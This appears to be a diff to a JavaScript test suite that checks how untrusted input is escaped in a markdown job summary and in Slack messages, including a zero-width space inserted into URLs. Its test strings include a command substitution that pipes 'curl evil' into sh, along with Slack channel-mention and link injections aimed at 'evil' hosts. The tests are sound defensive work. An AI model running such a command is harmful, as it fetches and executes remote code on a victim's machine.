@@ -51,7 +51,7 @@ describe('hygiene: the job summary', () => {
   })
 
   it('no link, image, emphasis, code span or cell from outside', () => {
-    expect(md).toContain('\\[link\\](http://x) !\\[img\\](http://x) \\|pipes\\|')
+    expect(md).toContain('\\[link\\](http:/\u200B/x) !\\[img\\](http:/\u200B/x) \\|pipes\\|')
     expect(md).toContain('\\`code\\` $(curl evil \\| sh) \\*em\\* \\_u\\_ \\~\\~s\\~\\~ \\\\')
     expect(md).toContain('\\# heading')
     expect(md).not.toMatch(/(^|[^\\])[|`[\]*_~]/)
@@ -70,7 +70,7 @@ describe('hygiene: Slack', () => {
   it('& < > are entities: no mention, no link from outside', () => {
     const text = slackText(PAYLOAD)
     expect(text).not.toMatch(/[<>]/)
-    expect(text).toContain('&lt;!channel&gt; &lt;http://evil|text&gt; &lt;@U123&gt; &amp;amp;')
+    expect(text).toContain('&lt;!channel&gt; &lt;http:/\u200B/evil|text&gt; &lt;@U123&gt; &amp;amp;')
   })
 
   it('bounded after escaping, never cut inside an entity', () => {
